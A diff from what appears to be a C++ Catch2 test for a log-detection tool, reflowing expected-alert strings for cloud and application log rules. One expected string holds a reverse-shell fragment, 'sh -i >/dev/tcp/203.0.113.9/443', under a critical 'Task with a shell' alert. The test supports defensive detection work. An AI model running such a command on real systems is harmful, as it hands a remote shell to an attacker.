@@ -103,8 +103,7 @@ TEST_CASE("cloud and application logs fire the rules that are about them",
        {"was StopLogging ", "event 2: Task with a shell (critical): ",
         ", sh -i >/dev/tcp/203.0.113.9/443 ",
         "event 4: Host path (warning): create pods shop/p by eve from ",
-        "was {\"path\":\"/\"}", "was 201 ",
-        "event 5: Stack trace (notice): {",
+        "was {\"path\":\"/\"}", "was 201 ", "event 5: Stack trace (notice): {",
         ", django.db.utils.IntegrityError: x "}) {
     CHECK_THAT(result.out, Catch::Contains(part));
   }
